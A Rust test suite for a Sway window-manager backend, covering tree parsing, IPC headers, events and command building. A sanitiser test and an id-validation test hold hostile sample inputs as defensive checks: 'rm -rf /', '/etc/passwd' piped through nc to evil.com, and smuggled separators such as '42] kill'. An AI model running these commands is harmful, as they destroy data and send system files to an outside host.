//! The Sway backend: the tree, the outputs, the events and the commands.

use nwg_common::compositor::sway::events::{
    check_subscription, event_from_json, event_from_message, parse_workspace_event,
    subscription_outcome, subscription_payload, EVENT_OUTPUT, EVENT_WORKSPACE,
};
use nwg_common::compositor::sway::{
    check_command_reply, command_outcome, ipc, tree, types, validate_con_id, SwayBackend,
};
use nwg_common::compositor::{sanitize_exec_command, WmClient, WmEvent, WmWorkspace};
use nwg_common::error::{DockError, IpcErrorKind};
use nwg_common::json::{parse_json, parse_json_array, Json};

/// An event type that is neither about outputs nor about workspaces.
const EVENT_WINDOW: u32 = 0x8000_0003;

fn json(text: &str) -> Json {
    parse_json(text.as_bytes()).unwrap()
}

fn backend() -> SwayBackend {
    SwayBackend::new(Some("/run/sway.sock".to_string())).unwrap()
}



#[test]
fn collect_windows_from_tree() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace",
                "name": "1",
                "num": 1,
                "nodes": [{
                    "type": "con",
                    "id": 42,
                    "name": "Firefox",
                    "app_id": "firefox",
                    "pid": 1234,
                    "focused": false,
                    "fullscreen_mode": 0,
                    "nodes": [],
                    "floating_nodes": []
                }],
                "floating_nodes": [{
                    "type": "floating_con",
                    "nodes": [{
                        "type": "con",
                        "id": 43,
                        "name": "Calculator",
                        "app_id": "gnome-calculator",
                        "pid": 5678,
                        "focused": false,
                        "fullscreen_mode": 0,
                        "nodes": [],
                        "floating_nodes": []
                    }],
                    "floating_nodes": []
                }]
            }]
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 2);
    assert_eq!(clients[0].class, "firefox");
    assert_eq!(clients[0].id, "42");
    assert_eq!(clients[0].title, "Firefox");
    assert_eq!(clients[0].pid, 1234);
    assert_eq!(clients[0].workspace.name, "1");
    assert_eq!(clients[0].workspace.id, 1);
    assert!(!clients[0].floating);
    assert_eq!(clients[1].class, "gnome-calculator");
    assert_eq!(clients[1].id, "43");
    assert!(clients[1].floating);
}

#[test]
fn find_focused_in_tree() {
    let tree_val = json(r#"{
        "type": "root",
        "focused": false,
        "nodes": [{
            "type": "output",
            "focused": false,
            "nodes": [{
                "type": "workspace",
                "focused": false,
                "nodes": [
                    {
                        "type": "con",
                        "id": 10,
                        "name": "Unfocused",
                        "app_id": "app1",
                        "pid": 100,
                        "focused": false,
                        "fullscreen_mode": 0,
                        "nodes": [],
                        "floating_nodes": []
                    },
                    {
                        "type": "con",
                        "id": 20,
                        "name": "Focused Window",
                        "app_id": "app2",
                        "pid": 200,
                        "focused": true,
                        "fullscreen_mode": 0,
                        "nodes": [],
                        "floating_nodes": []
                    }
                ],
                "floating_nodes": []
            }]
        }],
        "floating_nodes": []
    }"#);

    let focused = tree::find_focused_window(&tree_val);
    assert!(focused.is_some());
    let f = focused.unwrap();
    assert_eq!(f.id, "20");
    assert_eq!(f.class, "app2");
    assert_eq!(f.title, "Focused Window");
}

#[test]
fn x11_window_uses_window_properties() {
    let node = json(r#"{
        "type": "con",
        "id": 99,
        "name": "Steam",
        "app_id": null,
        "pid": 9999,
        "focused": false,
        "fullscreen_mode": 0,
        "window_properties": {
            "class": "steam",
            "instance": "steam",
            "title": "Steam"
        },
        "nodes": [],
        "floating_nodes": []
    }"#);

    let client = types::node_to_wm_client(&node, false).unwrap();
    assert_eq!(client.class, "steam");
    assert_eq!(client.id, "99");
}


#[test]
fn parse_event_json() {
    let event = json(r#"{
        "change": "focus",
        "container": {
            "id": 42,
            "name": "Firefox",
            "app_id": "firefox",
            "focused": true
        }
    }"#);

    let change = event.get("change").and_then(|v| v.as_str()).unwrap();
    assert_eq!(change, "focus");
    let id = event
        .get("container")
        .and_then(|c| c.get("id"))
        .and_then(|v| v.as_i64())
        .unwrap();
    assert_eq!(id, 42);
}

#[test]
fn empty_tree_yields_no_windows() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [],
        "floating_nodes": []
    }"#);
    let clients = tree::collect_clients_from_tree(&tree_val);
    assert!(clients.is_empty());
}

#[test]
fn multi_monitor_assigns_correct_output_ids() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [
            {
                "type": "output",
                "name": "__i3",
                "nodes": [],
                "floating_nodes": []
            },
            {
                "type": "output",
                "name": "DP-1",
                "nodes": [{
                    "type": "workspace",
                    "name": "1",
                    "num": 1,
                    "nodes": [{
                        "type": "con",
                        "id": 10,
                        "name": "App on DP-1",
                        "app_id": "app1",
                        "pid": 100,
                        "focused": false,
                        "fullscreen_mode": 0,
                        "nodes": [],
                        "floating_nodes": []
                    }],
                    "floating_nodes": []
                }],
                "floating_nodes": []
            },
            {
                "type": "output",
                "name": "HDMI-1",
                "nodes": [{
                    "type": "workspace",
                    "name": "2",
                    "num": 2,
                    "nodes": [{
                        "type": "con",
                        "id": 20,
                        "name": "App on HDMI-1",
                        "app_id": "app2",
                        "pid": 200,
                        "focused": false,
                        "fullscreen_mode": 0,
                        "nodes": [],
                        "floating_nodes": []
                    }],
                    "floating_nodes": []
                }],
                "floating_nodes": []
            }
        ],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 2);
    assert_eq!(clients[0].class, "app1");
    assert_eq!(clients[0].monitor_id, 0);
    assert_eq!(clients[0].workspace.name, "1");
    assert_eq!(clients[1].class, "app2");
    assert_eq!(clients[1].monitor_id, 1);
    assert_eq!(clients[1].workspace.name, "2");
}

#[test]
fn no_focused_window_returns_none() {
    let tree_val = json(r#"{
        "type": "root",
        "focused": false,
        "nodes": [{
            "type": "con",
            "id": 1,
            "app_id": "test",
            "pid": 1,
            "focused": false,
            "fullscreen_mode": 0,
            "nodes": [],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);
    assert!(tree::find_focused_window(&tree_val).is_none());
}

#[test]
fn deeply_nested_containers() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace",
                "name": "3",
                "num": 3,
                "nodes": [{
                    "type": "con",
                    "layout": "splith",
                    "nodes": [{
                        "type": "con",
                        "layout": "splitv",
                        "nodes": [{
                            "type": "con",
                            "layout": "tabbed",
                            "nodes": [{
                                "type": "con",
                                "id": 77,
                                "name": "Deep Window",
                                "app_id": "deep-app",
                                "pid": 7777,
                                "focused": false,
                                "fullscreen_mode": 0,
                                "nodes": [],
                                "floating_nodes": []
                            }],
                            "floating_nodes": []
                        }],
                        "floating_nodes": []
                    }],
                    "floating_nodes": []
                }],
                "floating_nodes": []
            }],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 1);
    assert_eq!(clients[0].class, "deep-app");
    assert_eq!(clients[0].id, "77");
    assert_eq!(clients[0].workspace.name, "3");
    assert_eq!(clients[0].workspace.id, 3);
}

#[test]
fn tabbed_stacked_layouts() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace",
                "name": "1",
                "num": 1,
                "nodes": [{
                    "type": "con",
                    "layout": "tabbed",
                    "nodes": [
                        {"type": "con", "id": 101, "name": "Tab 1", "app_id": "tab-app-1", "pid": 1001, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []},
                        {"type": "con", "id": 102, "name": "Tab 2", "app_id": "tab-app-2", "pid": 1002, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []},
                        {"type": "con", "id": 103, "name": "Tab 3", "app_id": "tab-app-3", "pid": 1003, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}
                    ],
                    "floating_nodes": []
                }],
                "floating_nodes": []
            }],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 3);
    for client in &clients {
        assert_eq!(client.workspace.name, "1");
        assert_eq!(client.workspace.id, 1);
    }
}

#[test]
fn multiple_workspaces_per_output() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [
                {
                    "type": "workspace", "name": "1", "num": 1,
                    "nodes": [
                        {"type": "con", "id": 201, "name": "WS1 App A", "app_id": "ws1-a", "pid": 2001, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []},
                        {"type": "con", "id": 202, "name": "WS1 App B", "app_id": "ws1-b", "pid": 2002, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}
                    ],
                    "floating_nodes": []
                },
                {
                    "type": "workspace", "name": "2", "num": 2,
                    "nodes": [
                        {"type": "con", "id": 203, "name": "WS2 App", "app_id": "ws2-app", "pid": 2003, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}
                    ],
                    "floating_nodes": []
                }
            ],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 3);
    assert_eq!(clients[0].workspace.name, "1");
    assert_eq!(clients[2].workspace.name, "2");
    assert_eq!(clients[2].class, "ws2-app");
}

#[test]
fn mixed_x11_and_wayland_windows() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace", "name": "1", "num": 1,
                "nodes": [
                    {"type": "con", "id": 301, "name": "Firefox", "app_id": "firefox", "pid": 3001, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []},
                    {"type": "con", "id": 302, "name": "Steam", "app_id": null, "pid": 3002, "focused": false, "fullscreen_mode": 0, "window_properties": {"class": "steam", "instance": "steam", "title": "Steam"}, "nodes": [], "floating_nodes": []}
                ],
                "floating_nodes": []
            }],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 2);
    assert_eq!(clients[0].class, "firefox");
    assert_eq!(clients[1].class, "steam");
}

#[test]
fn scratchpad_workspace_skipped() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [
                {
                    "type": "workspace", "name": "1", "num": 1,
                    "nodes": [{"type": "con", "id": 401, "name": "Normal App", "app_id": "normal-app", "pid": 4001, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}],
                    "floating_nodes": []
                },
                {
                    "type": "workspace", "name": "__i3_scratch", "num": -1,
                    "nodes": [{"type": "con", "id": 402, "name": "Scratchpad App", "app_id": "scratch-app", "pid": 4002, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}],
                    "floating_nodes": []
                }
            ],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 1);
    assert_eq!(clients[0].class, "normal-app");
}


#[test]
fn floating_windows_detected_correctly() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace", "name": "1", "num": 1,
                "nodes": [{"type": "con", "id": 501, "name": "Tiled App", "app_id": "tiled-app", "pid": 5001, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}],
                "floating_nodes": [{
                    "type": "floating_con",
                    "nodes": [{"type": "con", "id": 502, "name": "Floating App", "app_id": "floating-app", "pid": 5002, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}],
                    "floating_nodes": []
                }]
            }],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);

    let clients = tree::collect_clients_from_tree(&tree_val);
    assert_eq!(clients.len(), 2);
    let tiled = clients.iter().find(|c| c.id == "501").unwrap();
    assert!(!tiled.floating);
    let floating = clients.iter().find(|c| c.id == "502").unwrap();
    assert!(floating.floating);
}

#[test]
fn window_without_app_id_or_properties_skipped() {
    let tree_val = json(r#"{
        "type": "root",
        "nodes": [{
            "type": "output",
            "name": "DP-1",
            "nodes": [{
                "type": "workspace", "name": "1", "num": 1,
                "nodes": [{"type": "con", "id": 600, "name": "Mystery Node", "pid": 100, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []}],
                "floating_nodes": []
            }],
            "floating_nodes": []
        }],
        "floating_nodes": []
    }"#);
    let clients = tree::collect_clients_from_tree(&tree_val);
    assert!(
        clients.is_empty(),
        "node without app_id or window_properties should be skipped"
    );
}


/// Pin the JSON-shape mapping: a Sway workspace event with
/// change=focus and a current workspace produces the expected
/// WmEvent::WorkspaceChanged.
#[test]
fn workspace_focus_event_maps_to_workspace_changed() {
    let json = json(r#"{
        "change": "focus",
        "current": { "id": 17, "num": 3, "name": "chat" },
        "old": null
    }"#);
    let event = parse_workspace_event(&json);
    assert_eq!(
        event,
        Some(WmEvent::WorkspaceChanged {
            id: 3,
            name: "chat".into(),
        })
    );
}

#[test]
fn workspace_focus_with_no_current_drops() {
    let json = json(r#"{
        "change": "focus",
        "current": null,
        "old": null
    }"#);
    assert_eq!(parse_workspace_event(&json), None);
}

#[test]
fn workspace_init_change_drops() {
    // Only "focus" change emits; "init" / "rename" / etc. drop.
    let json = json(r#"{
        "change": "init",
        "current": { "id": 1, "num": 1, "name": "1" },
        "old": null
    }"#);
    assert_eq!(parse_workspace_event(&json), None);
}

#[test]
fn encode_decode_header() {
    let mut buf = Vec::new();
    buf.extend_from_slice(&ipc::I3_IPC_MAGIC);
    buf.extend_from_slice(&5u32.to_le_bytes());
    buf.extend_from_slice(&ipc::MSG_RUN_COMMAND.to_le_bytes());
    assert_eq!(&buf[..6], b"i3-ipc");
    assert_eq!(u32::from_le_bytes(buf[6..10].try_into().unwrap()), 5);
    assert_eq!(u32::from_le_bytes(buf[10..14].try_into().unwrap()), 0);

    let message = ipc::encode_message(ipc::MSG_RUN_COMMAND, b"focus");
    assert_eq!(&message[..14], &buf[..]);
    assert_eq!(&message[14..], b"focus");
    let header: [u8; 14] = message[..14].try_into().unwrap();
    assert_eq!(ipc::decode_header(&header).unwrap(), (5, ipc::MSG_RUN_COMMAND));
}

#[test]
fn header_bytes_are_little_endian() {
    let message = ipc::encode_message(0x8000_0007, &[0u8; 300]);
    assert_eq!(&message[6..10], &[0x2c, 0x01, 0, 0]);
    assert_eq!(&message[10..14], &[0x07, 0, 0, 0x80]);
}

#[test]
fn header_with_wrong_magic_is_rejected() {
    let header = *b"i3-ipX\0\0\0\0\0\0\0\0";
    match ipc::decode_header(&header) {
        Err(DockError::Ipc(e)) => {
            assert_eq!(e.kind, IpcErrorKind::InvalidData);
            assert_eq!(e.message, "invalid i3-ipc magic in response");
        }
        other => panic!("unexpected {:?}", other),
    }
}

#[test]
fn header_with_huge_payload_is_rejected() {
    let mut header = *b"i3-ipc\0\0\0\0\0\0\0\0";
    header[6..10].copy_from_slice(&100_000_001u32.to_le_bytes());
    match ipc::decode_header(&header) {
        Err(DockError::Ipc(e)) => {
            assert_eq!(e.kind, IpcErrorKind::InvalidData);
            assert_eq!(e.message, "IPC payload too large: 100000001 bytes");
        }
        other => panic!("unexpected {:?}", other),
    }
    header[6..10].copy_from_slice(&100_000_000u32.to_le_bytes());
    assert_eq!(ipc::decode_header(&header).unwrap(), (100_000_000, 0));
}

fn object(fields: Vec<(&str, Json)>) -> Json {
    Json::Object(fields.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
}

fn nested(depth: usize) -> Json {
    let mut node = json(
        r#"{
            "type": "con", "id": 999, "name": "Too Deep", "app_id": "deep-app",
            "pid": 9999, "focused": false, "fullscreen_mode": 0, "nodes": [], "floating_nodes": []
        }"#,
    );
    for _ in 0..depth {
        node = object(vec![
            ("type", Json::Text("con".to_string())),
            ("nodes", Json::Array(vec![node])),
            ("floating_nodes", Json::Array(Vec::new())),
        ]);
    }
    node
}

#[test]
fn depth_limit_prevents_overflow() {
    let node = nested(130);
    let mut clients = Vec::new();
    let ws = WmWorkspace::default().with_id(0).with_name("1");
    tree::collect_windows_with_context(&node, &mut clients, &ws, 0, false);
    assert!(
        clients.is_empty(),
        "window beyond MAX_TREE_DEPTH should not be collected"
    );
}

#[test]
fn depth_limit_is_exact() {
    let ws = WmWorkspace::default();
    let mut clients = Vec::new();
    tree::collect_windows_with_context(&nested(128), &mut clients, &ws, 4, false);
    assert_eq!(clients.len(), 1);
    assert_eq!(clients[0].monitor_id, 4);
    clients.clear();
    tree::collect_windows_with_context(&nested(129), &mut clients, &ws, 4, false);
    assert!(clients.is_empty());
}

#[test]
fn collecting_keeps_what_is_there() {
    let ws = WmWorkspace::default().with_id(7).with_name("seven");
    let mut clients = vec![WmClient::default().with_id("first")];
    tree::collect_windows_with_context(&nested(0), &mut clients, &ws, 2, true);
    assert_eq!(clients.len(), 2);
    assert_eq!(clients[0].id, "first");
    assert_eq!(clients[1].id, "999");
    assert_eq!(clients[1].workspace.id, 7);
    assert_eq!(clients[1].workspace.name, "seven");
    assert!(clients[1].floating);
}

#[test]
fn run_command_error_json() {
    let reply = br#"[{"success": false, "error": "No matching node"}]"#;
    let results: Vec<Json> = parse_json_array(reply).expect("valid JSON array");
    let first = results.first().expect("should have one result");
    assert_eq!(first.get("success").and_then(|v| v.as_bool()), Some(false));
    assert_eq!(
        first.get("error").and_then(|v| v.as_str()).unwrap(),
        "No matching node"
    );
    let err = command_outcome(&results).unwrap_err();
    assert_eq!(err.kind, IpcErrorKind::Other);
    assert_eq!(err.message, "No matching node");

    let ok_results: Vec<Json> =
        parse_json_array(br#"[{"success": true}]"#).expect("valid JSON array");
    assert_eq!(
        ok_results[0].get("success").and_then(|v| v.as_bool()),
        Some(true)
    );
    assert!(command_outcome(&ok_results).is_ok());
}

#[test]
fn command_replies() {
    assert!(check_command_reply(br#"[{"success": true}]"#).is_ok());
    assert!(check_command_reply(br#"[]"#).is_ok());
    assert!(check_command_reply(br#"[{}]"#).is_ok());
    match check_command_reply(br#"[{"success": false}]"#) {
        Err(DockError::Ipc(e)) => assert_eq!(e.message, "unknown error"),
        other => panic!("unexpected {:?}", other),
    }
    assert!(matches!(check_command_reply(br#"{"success": true}"#), Err(DockError::Json(_))));
    assert!(matches!(check_command_reply(b"["), Err(DockError::Json(_))));
}

#[test]
fn parse_output() {
    let output = json(
        r#"{
            "name": "DP-1",
            "active": true,
            "focused": true,
            "scale": 1.5,
            "current_workspace": "1",
            "rect": {"x": 0, "y": 0, "width": 3840, "height": 2160},
            "current_mode": {"width": 3840, "height": 2160, "refresh": 60000}
        }"#,
    );

    let mon = types::output_to_wm_monitor(&output, 0);
    assert_eq!(mon.name, "DP-1");
    assert_eq!(mon.width, 3840);
    assert_eq!(mon.height, 2160);
    assert!(mon.focused);
    assert!((f64::from_bits(mon.scale.bits) - 1.5).abs() < f64::EPSILON);
    assert_eq!(mon.active_workspace.name, "1");
}

#[test]
fn output_defaults() {
    let output = json(r#"{"rect": {"x": -5, "y": 7, "width": 640, "height": 480}}"#);
    let mon = types::output_to_wm_monitor(&output, 3);
    assert_eq!((mon.id, mon.width, mon.height, mon.x, mon.y), (3, 640, 480, -5, 7));
    assert_eq!(f64::from_bits(mon.scale.bits), 1.0);
    assert!(!mon.focused);
    assert_eq!(mon.name, "");
    let whole_scale = json(r#"{"scale": 2}"#);
    let mon = types::output_to_wm_monitor(&whole_scale, 0);
    assert_eq!(f64::from_bits(mon.scale.bits), 2.0);
    assert_eq!(mon.width, 0);
}

#[test]
fn monitors_are_active_outputs_in_order() {
    let reply = br#"[
        {"name": "A", "active": true},
        {"name": "B", "active": false},
        {"name": "C"},
        {"name": "D", "active": true}
    ]"#;
    let monitors = tree::parse_monitors(reply).unwrap();
    let seen: Vec<(i32, &str)> = monitors.iter().map(|m| (m.id, m.name.as_str())).collect();
    assert_eq!(seen, vec![(0, "A"), (1, "D")]);
    assert_eq!(backend().list_monitors(reply).unwrap().len(), monitors.len());
    assert!(matches!(tree::parse_monitors(b"{}"), Err(DockError::Json(_))));
    assert!(matches!(tree::parse_monitors(b"nonsense"), Err(DockError::Json(_))));
}

#[test]
fn focused_window_is_the_deepest() {
    let tree_val = json(
        r#"{
            "type": "con", "id": 1, "app_id": "outer", "pid": 1, "focused": true,
            "nodes": [
                {"type": "con", "id": 2, "app_id": "inner", "pid": 2, "focused": true}
            ]
        }"#,
    );
    assert_eq!(tree::find_focused_window(&tree_val).unwrap().id, "2");
}

#[test]
fn focused_floating_window_floats() {
    let tree_val = json(
        r#"{
            "type": "workspace",
            "floating_nodes": [
                {"type": "con", "id": 5, "app_id": "a", "pid": 2, "focused": true,
                 "workspace": {"num": 4, "name": "four"}, "fullscreen_mode": 1}
            ]
        }"#,
    );
    let found = tree::find_focused_window(&tree_val).unwrap();
    assert!(found.floating);
    assert!(found.fullscreen);
    assert_eq!(found.workspace.id, 4);
    assert_eq!(found.workspace.name, "four");
}

#[test]
fn window_without_id_is_none() {
    assert!(types::node_to_wm_client(&json(r#"{"id": "x"}"#), false).is_none());
    assert!(types::node_to_wm_client(&json(r#"{"id": 1.5}"#), false).is_none());
    let negative = types::node_to_wm_client(&json(r#"{"id": -9223372036854775808}"#), true);
    let negative = negative.unwrap();
    assert_eq!(negative.id, "-9223372036854775808");
    assert!(negative.floating);
    assert_eq!(negative.pid, 0);
}

#[test]
fn active_window_from_reply() {
    let b = backend();
    let reply = br#"{"type": "con", "id": 3, "app_id": "x", "pid": 9, "focused": true}"#;
    assert_eq!(b.get_active_window(reply).unwrap().id, "3");
    match b.get_active_window(b"{}") {
        Err(DockError::Ipc(e)) => {
            assert_eq!(e.kind, IpcErrorKind::NotFound);
            assert_eq!(e.message, "no focused window");
        }
        other => panic!("unexpected {:?}", other),
    }
    assert!(matches!(b.get_active_window(b""), Err(DockError::Json(_))));
}

#[test]
fn clients_from_reply() {
    let b = backend();
    let reply = br#"{"nodes": [{"type": "output", "name": "DP-1", "nodes": [
        {"type": "con", "id": 3, "app_id": "x", "pid": 9}]}]}"#;
    let clients = b.list_clients(reply).unwrap();
    assert_eq!(clients.len(), 1);
    assert_eq!(clients[0].id, "3");
    assert!(matches!(b.list_clients(b"?"), Err(DockError::Json(_))));
}

#[test]
fn backend_needs_its_socket() {
    assert_eq!(backend().socket_path, "/run/sway.sock");
    match SwayBackend::new(None) {
        Err(DockError::EnvNotSet(name)) => assert_eq!(name, "SWAYSOCK"),
        other => panic!("unexpected {:?}", other),
    }
    assert_eq!(backend().get_cursor_position(), None);
    assert!(!backend().supports_cursor_position());
}

#[test]
fn commands() {
    let b = backend();
    assert_eq!(b.focus_window("42").unwrap(), "[con_id=42] focus");
    assert_eq!(b.close_window("42").unwrap(), "[con_id=42] kill");
    assert_eq!(b.toggle_floating("42").unwrap(), "[con_id=42] floating toggle");
    assert_eq!(b.toggle_fullscreen("42").unwrap(), "[con_id=42] fullscreen toggle");
    assert_eq!(
        b.move_to_workspace("42", -3).unwrap(),
        "[con_id=42] move to workspace number -3"
    );
    assert_eq!(b.focus_workspace(10), "workspace number 10");
    assert_eq!(b.toggle_special_workspace("any"), "scratchpad show");
    assert_eq!(b.raise_active(), None);
    assert_eq!(b.exec("a; b"), "exec a b");
}

#[test]
fn container_ids_are_digits() {
    assert_eq!(validate_con_id("0123456789").unwrap(), "0123456789");
    for bad in ["", "4 2", "-1", "42] kill", "\u{0664}"] {
        match validate_con_id(bad) {
            Err(DockError::Ipc(e)) => {
                assert_eq!(e.kind, IpcErrorKind::InvalidInput);
                assert_eq!(e.message, format!("invalid Sway container id: {}", bad));
            }
            other => panic!("unexpected {:?}", other),
        }
    }
    assert!(backend().focus_window("x").is_err());
}

#[test]
fn sanitize_exec_strips_dangerous_chars() {
    assert_eq!(sanitize_exec_command("firefox"), "firefox");
    assert_eq!(
        sanitize_exec_command("firefox; rm -rf /"),
        "firefox rm -rf /"
    );
    assert_eq!(sanitize_exec_command("echo $HOME"), "echo HOME");
    assert_eq!(
        sanitize_exec_command("firefox\nrm -rf /"),
        "firefoxrm -rf /"
    );
    assert_eq!(sanitize_exec_command("echo `whoami`"), "echo whoami");
    assert_eq!(
        sanitize_exec_command("cat /etc/passwd | nc evil.com 1234"),
        "cat /etc/passwd  nc evil.com 1234"
    );
    assert_eq!(sanitize_exec_command("evil && rm -rf /"), "evil  rm -rf /");
}

#[test]
fn events_from_messages() {
    assert_eq!(
        event_from_message(EVENT_OUTPUT, b"not even json").unwrap(),
        Some(WmEvent::MonitorChanged)
    );
    let focus = br#"{"change": "focus", "container": {"id": 42}}"#;
    assert_eq!(
        event_from_message(EVENT_WINDOW, focus).unwrap(),
        Some(WmEvent::ActiveWindowChanged("42".to_string()))
    );
    let workspace = br#"{"change": "focus", "current": {"num": 3, "name": "chat"}}"#;
    assert_eq!(
        event_from_message(EVENT_WORKSPACE, workspace).unwrap(),
        Some(WmEvent::WorkspaceChanged { id: 3, name: "chat".to_string() })
    );
    assert_eq!(event_from_message(EVENT_WINDOW, br#"{"change": "title"}"#).unwrap(), None);
    assert_eq!(event_from_message(EVENT_WORKSPACE, br#"{"change": "init"}"#).unwrap(), None);
    let err = event_from_message(EVENT_WINDOW, b"{").unwrap_err();
    assert_eq!(err.kind, IpcErrorKind::InvalidData);
}

#[test]
fn window_events_without_container_have_no_id() {
    for change in ["new", "close", "focus"] {
        let event = json(&format!(r#"{{"change": "{}"}}"#, change));
        assert_eq!(
            event_from_json(EVENT_WINDOW, &event),
            Some(WmEvent::ActiveWindowChanged(String::new()))
        );
    }
}

#[test]
fn subscription_replies() {
    assert_eq!(subscription_payload(), r#"["window","output","workspace"]"#);
    assert!(check_subscription(br#"{"success": true}"#).is_ok());
    assert!(subscription_outcome(&json(r#"{"success": true}"#)).is_ok());
    match check_subscription(br#"{"success": false, "error": "no"}"#) {
        Err(DockError::Ipc(e)) => assert_eq!(e.message, "no"),
        other => panic!("unexpected {:?}", other),
    }
    match check_subscription(br#"{}"#) {
        Err(DockError::Ipc(e)) => assert_eq!(e.message, "Sway event subscription failed"),
        other => panic!("unexpected {:?}", other),
    }
    assert!(matches!(check_subscription(b"x"), Err(DockError::Json(_))));
}
